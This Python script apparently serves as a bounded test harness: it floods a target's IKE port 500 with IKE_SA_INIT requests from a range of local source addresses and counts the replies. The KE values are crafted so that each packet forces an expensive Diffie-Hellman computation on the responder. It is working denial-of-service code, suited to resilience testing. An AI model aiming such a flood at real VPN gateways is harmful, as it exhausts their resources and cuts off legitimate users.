#!/usr/bin/env python3
"""A bounded flood of spoofed IKE_SA_INIT requests (RFC 7296 §3.1-3.9 wire format).

  ike_flood.py DST COUNT SECONDS SRC_PREFIX FIRST LAST
sends COUNT well-formed IKE_SA_INIT requests (random SPI, AES-CBC-128 / HMAC-SHA1 / PRF-SHA1 /
MODP-1024 with a random KE value, 32-byte nonce) to DST:500, spread evenly over SECONDS, from
source addresses SRC_PREFIX.FIRST .. SRC_PREFIX.LAST (which must exist in this namespace), and
prints how many were sent and how many replies came back. Never more than COUNT packets.
"""
import os
import select
import socket
import struct
import sys
import time


def payload(next_type, body):
    return struct.pack("!BBH", next_type, 0, 4 + len(body)) + body


def transform(ttype, tid, keylen=None, last=False):
    attrs = b"" if keylen is None else struct.pack("!HH", 0x800E, keylen)
    return struct.pack("!BBHBBH", 0 if last else 3, 0, 8 + len(attrs), ttype, 0, tid) + attrs


def init_request():
    transforms = (transform(1, 12, 128) + transform(3, 2) + transform(2, 2) +
                  transform(4, 2, last=True))
    proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(transforms), 1, 1, 0, 4) + transforms
    sa = payload(34, proposal)                                      # next: KE
    # A KE value below the MODP-1024 prime (whose top bits are all ones), so it passes the
    # RFC 6989 range check and costs the responder a real D-H computation.
    value = bytes([os.urandom(1)[0] & 0x7F]) + os.urandom(127)
    ke = payload(40, struct.pack("!HH", 2, 0) + value)              # next: Nonce
    nonce = payload(0, os.urandom(32))
    body = sa + ke + nonce
    spi_i = os.urandom(8)
    header = spi_i + bytes(8) + struct.pack("!BBBBII", 33, 0x20, 34, 0x08, 0, 28 + len(body))
    return header + body


def main():
    dst, count, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    prefix, first, last = sys.argv[4], int(sys.argv[5]), int(sys.argv[6])
    socks = []
    for i in range(first, last + 1):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind((f"{prefix}.{i}", 0))
        s.setblocking(False)
        socks.append(s)
    sent = replies = 0
    start = time.monotonic()
    interval = seconds / count
    while sent < count and time.monotonic() - start < seconds + 5:
        s = socks[sent % len(socks)]
        try:
            s.sendto(init_request(), (dst, 500))
            sent += 1
        except BlockingIOError:
            pass
        ready, _, _ = select.select(socks, [], [], 0)
        for r in ready:
            try:
                while r.recv(2048):
                    replies += 1
            except BlockingIOError:
                pass
        ahead = start + sent * interval - time.monotonic()
        if ahead > 0:
            time.sleep(ahead)
    print(f"{sent} {replies} {time.monotonic() - start:.1f}")


if __name__ == "__main__":
    main()
